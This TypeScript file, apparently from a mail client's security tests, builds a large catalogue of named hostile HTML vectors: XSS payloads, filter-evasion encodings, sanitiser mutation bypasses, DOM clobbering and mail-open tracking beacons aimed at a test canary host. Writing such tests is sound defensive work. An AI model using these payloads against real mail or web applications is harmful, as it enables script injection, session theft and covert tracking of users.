/** One public way to run a script or to leak that a mail was opened, as the HTML of a mail. */
export interface HostileHtml {
  readonly name: string
  readonly html: string
}

export interface Traps {
  /** What a script of a mail would run: an expression without quotes and spaces. */
  readonly script: string
  /** Where a request would arrive, `http://host:port`. */
  readonly canary: string
  /** A host that nothing but a leak ever looks up. */
  readonly leak: string
}

/** Public vectors: filter evasion lists, sanitiser bypasses by mutation, and what mail is tracked with. */
export function hostileHtml({ canary, leak, script }: Traps): readonly HostileHtml[] {
  const encoded = script.replace(/./g, (char) => `&#${char.charCodeAt(0)};`)
  const base64 = Buffer.from(`<script>${script}</script>`).toString('base64')
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`,
  ).toString('base64')
  const bare = canary.replace('http:', '')
  const vectors: Readonly<Record<string, string>> = {
    // --- scripts
    'script element': `<script>${script}</script><ScRiPt>${script}</sCrIpT>`,
    'script from outside': `<script src="${canary}/script.js"></script><script src=${bare}/script.js async defer></script>`,
    'module script': `<script type=module>import '${canary}/module.js';${script}</script>`,
    'broken script tags': `<scr<script>ipt>${script}</scr</script>ipt><script/x>${script}</script ><<script>${script}//<</script>`,
    'script in a comment’s end': `<!--><script>${script}</script>--><!--!><script>${script}</script>-->`,
    'script with a null': `<scr\u0000ipt>${script}</scr\u0000ipt>`,
    'script in CDATA': `<![CDATA[<script>${script}</script>]]><?x <script>${script}</script>?>`,
    'import map and speculation rules': `<script type=importmap>{"imports":{"a":"${canary}/a.js"}}</script><script type=speculationrules>{"prerender":[{"source":"list","urls":["${canary}/rules"]}]}</script>`,

    // --- event handlers
    'img onerror': `<img src=x onerror=${script}><img src="x" onerror="${script}"><img src=x onerror='${script}'>`,
    'img onerror encoded': `<img src=x onerror="${encoded}">`,
    'img onerror behind a slash': `<img/src=x/onerror=${script}><img src=x:x\u000conerror=${script}>`,
    'img with three quotes': `<img """><script>${script}</script>"\\>`,
    'img with an unclosed tag': `<img src=x onerror=${script} x=`,
    'img in an unclosed attribute': `<a title="><img src=x onerror=${script}>">x</a>`,
    'backtick attribute': `<img alt=\`\`onerror=${script} src=x>`,
    'body handlers': `<body onload=${script} onpageshow=${script} onfocus=${script} onhashchange=${script}>`,
    'details ontoggle': `<details open ontoggle=${script}><summary>x</summary></details>`,
    'autofocus onfocus': `<input autofocus onfocus=${script}><select autofocus onfocus=${script}></select><p tabindex=0 autofocus onfocus=${script}>x</p>`,
    'marquee onstart': `<marquee onstart=${script} behavior=alternate>x</marquee>`,
    'media handlers': `<video autoplay onloadstart=${script} onerror=${script}><source src=x onerror=${script}></video><audio src=x onerror=${script}>`,
    'animation handlers': `<style>@keyframes k{from{left:0}}</style><p style="animation:k 1s" onanimationstart=${script} onwebkitanimationstart=${script}>x</p>`,
    'transition handlers': `<p style="transition:color 1ms" ontransitionrun=${script} ontransitionend=${script}>x</p>`,
    'popover handlers': `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${script}>x</div>`,
    'pointer handlers over everything': `<p style="position:fixed;inset:0;z-index:9999" onmouseover=${script} onpointerenter=${script} onclick=${script}>x</p>`,
    'content-visibility handler': `<p oncontentvisibilityautostatechange=${script} style="display:block;content-visibility:auto">x</p>`,
    'scroll handlers': `<p style="overflow:auto;height:9px" onscroll=${script} onscrollsnapchange=${script}>x<br>x<br><a id=s>x</a></p>`,
    'unknown element': `<x-y onclick=${script} onfocus=${script} tabindex=1 autofocus>x</x-y><xss onfocusin=${script} autofocus tabindex=1>x</xss>`,

    // --- addresses that run
    'javascript link': `<a href="javascript:${script}">x</a><a href="JaVaScRiPt:${script}">x</a>`,
    'javascript link split': `<a href="jav&#x09;ascript:${script}">x</a><a href="java\nscript:${script}">x</a><a href=" &#14; javascript:${script}">x</a>`,
    'javascript link encoded': `<a href="&#106;avascript&colon;${script}">x</a>`,
    'data link': `<a href="data:text/html;base64,${base64}">x</a>`,
    'vbscript link': `<a href="vbscript:${script}">x</a>`,
    'javascript picture': `<img src="javascript:${script}"><img dynsrc="javascript:${script}"><img lowsrc="javascript:${script}">`,
    'data pictures that are documents': `<img src="data:text/html;base64,${base64}"><img src="data:image/svg+xml;base64,${svg}">`,
    'javascript everywhere else': `<table background="javascript:${script}"><tr><td background="javascript:${script}">x</table><body background="javascript:${script}">`,

    // --- frames and plug-ins
    iframe: `<iframe src="${canary}/iframe"></iframe><iframe src="javascript:${script}"></iframe>`,
    'iframe srcdoc': `<iframe srcdoc="<script>${script}</script><img src=${canary}/srcdoc>"></iframe>`,
    'iframe data': `<iframe src="data:text/html;base64,${base64}"></iframe>`,
    object: `<object data="${canary}/object"></object><object data="data:text/html;base64,${base64}"></object><object type=text/x-scriptlet data="${canary}/scriptlet"></object>`,
    embed: `<embed src="${canary}/embed"><embed src="javascript:${script}"><embed src="data:image/svg+xml;base64,${svg}">`,
    'applet and frames': `<applet code="${canary}/applet"></applet><frameset><frame src="${canary}/frame" onload=${script}></frameset>`,
    portal: `<portal src="${canary}/portal" onload=${script}></portal><fencedframe src="${canary}/fenced"></fencedframe>`,

    // --- svg and MathML
    'svg handlers': `<svg onload=${script}></svg><svg/onload=${script}><svg><image href=x onerror=${script}></svg>`,
    'svg script': `<svg><script>${script}</script><script href="${canary}/svg.js"/></svg>`,
    'svg script encoded': `<svg><script>${encoded}</script></svg>`,
    'svg animate': `<svg><animate onbegin=${script} attributeName=x dur=1s><set onbegin=${script} attributeName=x></svg>`,
    'svg animated link': `<svg><a><animate attributeName=href values=javascript:${script} /><text y=20>x</text></a></svg>`,
    'svg use': `<svg><use href="data:image/svg+xml;base64,${svg}#x"/><use href="${canary}/use.svg#x"/></svg>`,
    'svg foreign object': `<svg><foreignObject><iframe src="javascript:${script}"></iframe><img src=${canary}/foreign onerror=${script}></foreignObject></svg>`,
    'svg pictures and filters': `<svg><image href="${canary}/image.png"/><feImage href="${canary}/fe.png"/><rect fill="url(${canary}/paint.svg#a)" width=9 height=9 /></svg>`,
    'svg style': `<svg><style>@import "${canary}/svg.css";</style></svg>`,
    'math link': `<math><a xlink:href="javascript:${script}">x</a><maction actiontype=statusline xlink:href="javascript:${script}">x</maction></math>`,
    'math href': `<math href="javascript:${script}"><mi>x</mi></math>`,

    // --- mutation: what is safe until it is parsed again
    'mutation by svg style': `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
    'mutation by math style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
    'mutation by nested forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
    'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
    'mutation by template': `<template><img src=x onerror=${script}></template><template shadowrootmode=open><img src=x onerror=${script}><slot></slot></template>`,
    'mutation by raw text elements': `<textarea><img title="</textarea><img src=x onerror=${script}>"></textarea><title><p id="</title><img src=x onerror=${script}>"></title><xmp><p id="</xmp><img src=x onerror=${script}>"></xmp>`,
    'mutation by noembed and noframes': `<noembed><p id="</noembed><img src=x onerror=${script}>"></noembed><noframes><p id="</noframes><img src=x onerror=${script}>"></noframes><plaintext><img src=x onerror=${script}>`,
    'mutation by select': `<select><svg><style><img title="</style><img src=x onerror=${script}>"></select><select><option><iframe></select><img src=x onerror=${script}>`,
    'mutation by table': `<table><svg><tr><style><img title="</style><img src=x onerror=${script}>"></table>`,
    'mutation by annotation': `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${script}>"></annotation-xml></math>`,
    'mutation by CDATA': `<svg><![CDATA[><img src=x onerror=${script}>]]></svg><math><![CDATA[]]><img src=x onerror=${script}>`,
    'mutation by deep nesting': `${'<div>'.repeat(600)}<form><form><table><svg><style><img title="</style><img src=x onerror=${script}>">`,
    'mutation by foreign depth': `${'<svg><foreignObject>'.repeat(60)}<style><img title="</style><img src=x onerror=${script}>">`,
    'mutation by comment': `<!--<img title="--><img src=x onerror=${script}>"><svg><!--</svg><img src=x onerror=${script}>-->`,
    'mutation by processing instruction': `<?xml-stylesheet href="${canary}/pi.css"?><svg><?img ><img src=x onerror=${script}>?></svg>`,
    'mutation by is attribute': `<p is="x-y" onclick=${script}>x</p><a id=x tabindex=1 onactivate=${script}>x</a>`,
    'closing the frame’s document': `</body></html><script>${script}</script></style></title></iframe><img src=x onerror=${script}>`,
    'style that ends early': `<style></style><img src=x onerror=${script}></style><style>a{content:"</style><img src=x onerror=${script}>"}</style>`,
    'style that rejoins': `<style><</style/style><img src=x onerror=${script}></style>`,

    // --- names that shadow the page's own
    'clobbered document': `<form id=document><input name=body></form><img name=cookie><img name=querySelector><a id=defaultView><a id=defaultView name=location href="cid:${script}"></a>`,
    'clobbered nodes': `<form><input name=attributes><input name=parentNode><input name=removeAttribute><input name=nodeName><img src=x onerror=${script}></form>`,
    'clobbered body': `<form><input name=childNodes><input name=firstChild><input name=textContent><svg onload=${script}></form><p id=app>x</p><p id=thread-subject>x</p>`,
    'prototype names': `<p id=__proto__ class=constructor><img name=__proto__><a id=toString href="${canary}/clob">x</a></p>`,

    // --- where the document itself goes
    'meta refresh': `<meta http-equiv=refresh content="0;url=${canary}/refresh"><meta http-equiv=refresh content="0;javascript:${script}"><meta http-equiv=refresh content="0;url=data:text/html;base64,${base64}">`,
    'meta policy and cookie': `<meta http-equiv=Content-Security-Policy content="report-uri ${canary}/report"><meta http-equiv=Set-Cookie content="a=b">`,
    base: `<base href="${canary}/base/" target=_top><img src=relative.png><a href=x>x</a>`,
    'form that sends itself': `<form action="${canary}/form" id=f><input name=password type=password><input type=image src="${canary}/button.png" onerror=${script}><button autofocus formaction="javascript:${script}" onfocus=${script}>x</button></form>`,
    isindex: `<isindex type=image src=1 onerror=${script} action="javascript:${script}">`,
    'link with a ping': `<a href="https://shop.test" ping="${canary}/ping" target=_top download onclick=${script}>x</a><area href="javascript:${script}" ping="${canary}/ping">`,
    'image map': `<img usemap=#m src=x><map name=m><area shape=default href="javascript:${script}" onfocus=${script}></map>`,

    // --- what tells that the mail was opened
    'picture sets': `<img srcset="${canary}/set-1x.png 1x, ${canary}/set-2x.png 2x"><picture><source srcset="${canary}/source.png"><img srcset="${canary}/inner.png"></picture>`,
    'old pictures': `<img lowsrc="${canary}/low.png" dynsrc="${canary}/dyn.avi" longdesc="${canary}/long"><image src="${canary}/image.png" onerror=${script}>`,
    'picture without a scheme': `<img src="${bare}/bare.png"><img src="\\\\${bare.slice(2)}\\back.png"><img src="http:${bare}/half.png">`,
    'media from outside': `<video src="${canary}/v.mp4" poster="${canary}/poster.png" autoplay preload=auto></video><audio src="${canary}/a.mp3" autoplay preload=auto></audio><video><source src="${canary}/s.mp4"><track default src="${canary}/t.vtt"></video><bgsound src="${canary}/b.wav">`,
    'backgrounds from outside': `<body background="${canary}/body.png"><table background="${canary}/table.png"><tr background="${canary}/tr.png"><td background="${canary}/td.png">x</table>`,
    'linked styles': `<link rel=stylesheet href="${canary}/link.css"><link rel="alternate stylesheet" href="${canary}/alt.css" title=x><link rel=icon href="${canary}/icon.png">`,
    'prefetched links': `<link rel=prefetch href="${canary}/prefetch"><link rel=preload as=image href="${canary}/preload.png"><link rel=modulepreload href="${canary}/module.js"><link rel=prerender href="${canary}/prerender"><link rel=preload as=image imagesrcset="${canary}/imageset.png">`,
    'looked-up links': `<link rel=dns-prefetch href="//dns.${leak}"><link rel=preconnect href="${canary}"><link rel=preconnect href="//connect.${leak}"><meta http-equiv=x-dns-prefetch-control content=on><a href="https://anchor.${leak}/">x</a>`,
    'manifest and import': `<link rel=manifest href="${canary}/manifest"><link rel=import href="${canary}/import.html"><html manifest="${canary}/appcache">`,
    'styled backgrounds': `<p style="background:url(${canary}/b1)">x</p><p style="background-image:URL( '${canary}/b2' )">x</p><p style="background:image-set('${canary}/b3' 1x)">x</p><p style="background:-webkit-image-set(url(${canary}/b4) 1x)">x</p>`,
    'styled backgrounds hidden': `<p style="background:u\\72l(${canary}/h1)">x</p><p style="background:ur/**/l(${canary}/h2)">x</p><p style="background:\\75\\72\\6c('${canary}/h3')">x</p><p style="background:url&lpar;${canary}/h4)">x</p><p style="background:uurl()rl(${canary}/h5)">x</p>`,
    'styled anything': `<p style="list-style:url(${canary}/l);cursor:url(${canary}/c),auto;border-image:url(${canary}/bi) 1;mask:url(${canary}/m#a);filter:url(${canary}/f#a);clip-path:url(${canary}/cp#a);shape-outside:url(${canary}/so);content:url(${canary}/co);offset-path:url(${canary}/op#a)">x</p>`,
    'styles by variables': `<style>:root{--a:url(${canary}/var)}p{background:var(--a)}@property --b{syntax:"<image>";inherits:false;initial-value:url(${canary}/prop)}b{background:var(--b)}</style><b>x</b>`,
    'imported styles': `<style>@import "${canary}/i1.css";@import url(${canary}/i2.css);@IMPORT/**/'${canary}/i3.css' screen;@\\69mport "${canary}/i4.css";</style>`,
    'imported styles that rejoin': `<style>@im@import "x";port "${canary}/r1.css";@@import;import "${canary}/r2.css";</style>`,
    'fonts from outside': `<style>@font-face{font-family:x;src:url(${canary}/f.woff2)}@font-face{font-family:y;src:local(x),url("${canary}/g.woff")format("woff")}p{font-family:x,y}</style><p style="font-family:x">x</p>`,
    'styles by what is there': `<style>[id]{background:url(${canary}/has-id)}p:first-child::before{content:url(${canary}/first)}@media screen{*{background:url(${canary}/media)}}@supports(display:grid){*{background:url(${canary}/supports)}}@namespace x url(${canary}/ns);@document url(${canary}/doc){*{color:red}}</style>`,
    'styles that ran in old clients': `<p style="width:expression(${script});behavior:url(${canary}/x.htc);-moz-binding:url(${canary}/x.xml#x)">x</p><style>p{behavior:url(${canary}/y.htc)}</style><p style="x:\\65xpression(${script})">x</p>`,
    'styles that hide the rest': `<style>body{position:fixed;inset:0}html{display:contents}</style><p style="position:fixed;top:-500px;left:0;width:99999px;height:99999px;z-index:99999">x</p>`,
    'scroll to text': `<a href="#:~:text=x">x</a><p id="message-1" style="background:url(${canary}/target)">x</p><style>:target{background:url(${canary}/t)}</style>`,
    'namespaced and odd attributes': `<p xmlns:x="http://www.w3.org/1999/xhtml" x:onclick=${script} data-wb-remote="${canary}/own" data-wb-target="javascript:${script}" data-wb-inline=x>x</p><img data-wb-remote="${canary}/own.png"><a data-wb-target="javascript:${script}">x</a>`,
    'xml islands': `<xml id=x src="${canary}/xml"><i><b>&lt;img src=x onerror=${script}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span><t:set xmlns:t="urn:schemas" attributeName=innerHTML to="<img src=x onerror=${script}>">`,
    'conditional comments': `<!--[if gte IE 4]><script>${script}</script><![endif]--><![if !mso]><img src=x onerror=${script}><![endif]><v:rect><v:fill src="${canary}/vml.png" /></v:rect>`,
  }
  return Object.entries(vectors).map(([name, html]) => ({ name, html }))
}
